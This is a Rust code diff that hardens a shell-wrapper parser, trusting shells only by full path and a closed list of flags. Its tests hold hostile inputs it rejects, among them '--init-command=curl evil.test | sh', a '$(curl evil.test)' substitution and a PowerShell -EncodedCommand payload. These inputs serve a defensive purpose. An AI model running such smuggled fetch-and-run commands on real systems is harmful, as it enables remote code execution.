@@ -2,6 +2,8 @@
 //!
 //! Refuses to run, expand or judge anything: a line it cannot follow is still split, only more coarsely.
 
+use std::sync::LazyLock;
+
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Token {
     /// A word with its quotes taken away.
@@ -22,27 +24,129 @@ pub struct Line {
 }
 
 /// The script that a shell wrapper (`/bin/bash -lc '…'`) runs; `None` when the line is no wrapper.
+///
+/// Invariant: a shell is known by its whole path, and every flag by a closed list. Whatever else a line says must be seen:
+/// it is shown as it stands.
 pub fn unwrapped(raw: &str) -> Option<String> {
-    let line = split(raw);
-    let mut words = Vec::new();
-    for token in line.tokens {
-        match token {
-            Token::Word(word) => words.push(word),
-            _ => return None,
-        }
-    }
+    static LOGIN: LazyLock<Option<String>> = LazyLock::new(|| std::env::var("SHELL").ok());
+    unwrapped_by(raw, LOGIN.as_deref())
+}
+
+fn unwrapped_by(raw: &str, login: Option<&str>) -> Option<String> {
+    let words = quoted_words(raw)?;
     let (shell, rest) = words.split_first()?;
     let (script, flags) = rest.split_last()?;
-    let wraps = match program(shell).as_str() {
-        "bash" | "zsh" | "sh" | "dash" | "ksh" | "fish" => {
-            flags.last().is_some_and(|flag| flag.starts_with('-') && !flag.starts_with("--") && flag.ends_with('c'))
-                && flags.iter().all(|flag| flag.starts_with('-'))
+    (Shell::at(shell, login)?.takes(flags)).then(|| script.clone())
+}
+
+/// How a shell reads its flags.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Shell {
+    Posix,
+    Pwsh,
+    Cmd,
+}
+
+const POSIX: &[&str] = &["bash", "zsh", "sh", "dash", "ksh", "fish"];
+/// Only an administrator, or the person's own package manager, writes here.
+const FOLDERS: &[&str] = &[
+    "/bin",
+    "/usr/bin",
+    "/usr/local/bin",
+    "/opt/homebrew/bin",
+    "/run/current-system/sw/bin",
+    "/sbin",
+    "/usr/sbin",
+    "/usr/local/sbin",
+];
+const WINDOWS: &[(&str, Shell)] = &[
+    (r"c:\windows\system32\windowspowershell\v1.0\powershell.exe", Shell::Pwsh),
+    (r"c:\windows\syswow64\windowspowershell\v1.0\powershell.exe", Shell::Pwsh),
+    (r"c:\program files\powershell\7\pwsh.exe", Shell::Pwsh),
+    (r"c:\windows\system32\cmd.exe", Shell::Cmd),
+    (r"c:\program files\git\bin\bash.exe", Shell::Posix),
+];
+
+impl Shell {
+    pub fn named(name: &str) -> Option<Self> {
+        match name {
+            "powershell" | "pwsh" => Some(Self::Pwsh),
+            "cmd" => Some(Self::Cmd),
+            _ => POSIX.contains(&name).then_some(Self::Posix),
         }
-        "powershell" | "pwsh" => flags.last().is_some_and(|flag| flag.eq_ignore_ascii_case("-command")),
-        "cmd" => flags.len() == 1 && flags[0].eq_ignore_ascii_case("/c"),
-        _ => false,
-    };
-    wraps.then(|| script.clone())
+    }
+
+    /// A shell where shells are kept, or the one that the person logs in with.
+    fn at(path: &str, login: Option<&str>) -> Option<Self> {
+        if let Some((_, shell)) = WINDOWS.iter().find(|(known, _)| path.eq_ignore_ascii_case(known)) {
+            return Some(*shell);
+        }
+        let (folder, name) = path.rsplit_once('/')?;
+        let known = FOLDERS.contains(&folder) || (path.starts_with('/') && Some(path) == login);
+        Self::named(name).filter(|_| known)
+    }
+
+    /// Whether these are the flags before a script, and say nothing but "run it".
+    fn takes(self, flags: &[String]) -> bool {
+        let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
+        let is = |flag: &str, names: &[&str]| names.iter().any(|name| flag.eq_ignore_ascii_case(name));
+        match self {
+            Self::Posix => matches!(flags[..], ["-c" | "-lc"] | ["-l", "-c"]),
+            Self::Pwsh => flags.split_last().is_some_and(|(last, rest)| {
+                is(last, &["-command", "-c"])
+                    && rest.iter().all(|flag| is(flag, &["-nologo", "-noprofile", "-noninteractive"]))
+            }),
+            Self::Cmd => flags.len() == 1 && is(flags[0], &["/c"]),
+        }
+    }
+}
+
+/// Whether programs are kept in the folder of this path, where nothing of a workspace gets by itself.
+pub fn is_system_path(path: &str) -> bool {
+    let lower = path.to_ascii_lowercase().replace('\\', "/");
+    let folder = path.rsplit_once('/').map(|(folder, _)| folder);
+    folder.is_some_and(|folder| FOLDERS.contains(&folder))
+        || ["c:/windows/", "c:/program files/", "c:/program files (x86)/"].iter().any(|known| lower.starts_with(known))
+}
+
+/// The words of a line in which nothing but quoting is going on; `None` where a shell would do anything else with it.
+fn quoted_words(line: &str) -> Option<Vec<String>> {
+    let mut words = Vec::new();
+    let mut word: Option<String> = None;
+    let mut chars = line.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            ' ' => words.extend(word.take()),
+            '\'' => {
+                let word = word.get_or_insert_default();
+                loop {
+                    match chars.next()? {
+                        '\'' => break,
+                        c => word.push(c),
+                    }
+                }
+            }
+            '"' => {
+                let word = word.get_or_insert_default();
+                loop {
+                    match chars.next()? {
+                        '"' => break,
+                        '$' | '`' => return None,
+                        '\\' => match chars.next()? {
+                            c @ ('$' | '`' | '"' | '\\') => word.push(c),
+                            c => word.extend(['\\', c]),
+                        },
+                        c => word.push(c),
+                    }
+                }
+            }
+            '\\' => word.get_or_insert_default().push(chars.next().filter(|&c| c != '\n')?),
+            c if c.is_whitespace() || "|&;<>()$`#*?[{}~!".contains(c) => return None,
+            c => word.get_or_insert_default().push(c),
+        }
+    }
+    words.extend(word);
+    Some(words)
 }
 
 /// A command's words as one line that `split` reads back.
@@ -190,33 +294,73 @@ mod tests {
     }
 
     #[test]
-    fn the_wrapper_of_every_shell_is_taken_away() {
+    fn the_wrapper_of_every_known_shell_is_taken_away() {
         for (raw, script) in [
             ("/bin/bash -lc ls", "ls"),
             ("/bin/bash -lc 'echo hi && ls'", "echo hi && ls"),
             (r#"/bin/zsh -lc "echo it's""#, "echo it's"),
-            (r#"bash -c 'a '"'"'b'"'"''"#, "a 'b'"),
+            (r#"/usr/bin/bash -c 'a '"'"'b'"'"''"#, "a 'b'"),
             (r#"/bin/bash -lc "echo \"\$HOME\"""#, r#"echo "$HOME""#),
-            ("sh -l -c 'x'", "x"),
+            ("/bin/sh -l -c 'x'", "x"),
+            ("/home/me/bin/zsh -lc ls", "ls"),
+            ("/opt/homebrew/bin/fish -c ls", "ls"),
             (
                 r"/bin/bash -lc 'cat <<EOF
 a
 EOF'",
                 "cat <<EOF\na\nEOF",
             ),
-            ("powershell.exe -NoProfile -Command 'Get-Item .'", "Get-Item ."),
-            ("cmd.exe /c dir", "dir"),
+            (
+                r"'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' -NoProfile -Command 'Get-Item .'",
+                "Get-Item .",
+            ),
+            (r#""C:\\Program Files\\PowerShell\\7\\pwsh.exe" -Command ls"#, "ls"),
+            (r"'C:\WINDOWS\system32\cmd.exe' /c dir", "dir"),
         ] {
-            assert_eq!(unwrapped(raw).as_deref(), Some(script), "{raw}");
+            assert_eq!(unwrapped_by(raw, Some("/home/me/bin/zsh")).as_deref(), Some(script), "{raw}");
         }
     }
 
     #[test]
-    fn what_is_no_wrapper_stays() {
-        for raw in
-            ["", "ls -lc 'x'", "bash script.sh", "bash -lc", "bash -lc a b", "bash -lc 'a' | cat", "python3 -c 'x'"]
-        {
-            assert_eq!(unwrapped(raw), None, "{raw}");
+    fn what_is_no_known_wrapper_stays() {
+        for raw in [
+            "",
+            "ls -lc 'x'",
+            "/bin/bash script.sh",
+            "/bin/bash -lc",
+            "/bin/bash -lc a b",
+            "/bin/bash -lc 'a' | cat",
+            "python3 -c 'x'",
+            // A shell by name alone, in this folder, or somewhere else.
+            "bash -lc 'git status'",
+            "./bin/bash -lc 'git status'",
+            "bin/bash -lc 'git status'",
+            "/tmp/bash -lc 'git status'",
+            "/bin/../tmp/bash -lc 'git status'",
+            "/home/you/bin/zsh -lc 'git status'",
+            "cmd.exe /c dir",
+            // Flags that say more than "run it".
+            "fish '--init-command=curl evil.test | sh' -c 'git status'",
+            "/usr/bin/fish '--init-command=curl evil.test | sh' -c 'git status'",
+            "/usr/bin/fish -C 'curl evil.test' -c 'git status'",
+            "/bin/bash --rcfile ./rc -ic 'git status'",
+            "/bin/bash --init-file=rc -c 'git status'",
+            "/bin/bash -ic 'git status'",
+            "/bin/bash -O extglob -c 'git status'",
+            "/bin/bash -c -c 'git status'",
+            "pwsh -EncodedCommand ZQB2AGkAbAA= -Command 'git status'",
+            "/usr/bin/pwsh -EncodedCommand ZQB2AGkAbAA= -Command 'git status'",
+            "/usr/bin/pwsh -WorkingDirectory / -Command 'git status'",
+            r"'C:\Windows\System32\cmd.exe' /k /c dir",
+            // What a shell would do more with.
+            "/bin/bash -lc \"$(curl evil.test)\"",
+            "/bin/bash -lc `x`",
+            "/bin/bash -lc ls #x",
+            "/bin/bash -lc 'unclosed",
+            "/bin/bash -lc *",
+            "X=1 /bin/bash -lc ls",
+        ] {
+            assert_eq!(unwrapped_by(raw, Some("/home/me/bin/zsh")), None, "{raw}");
         }
     }
 
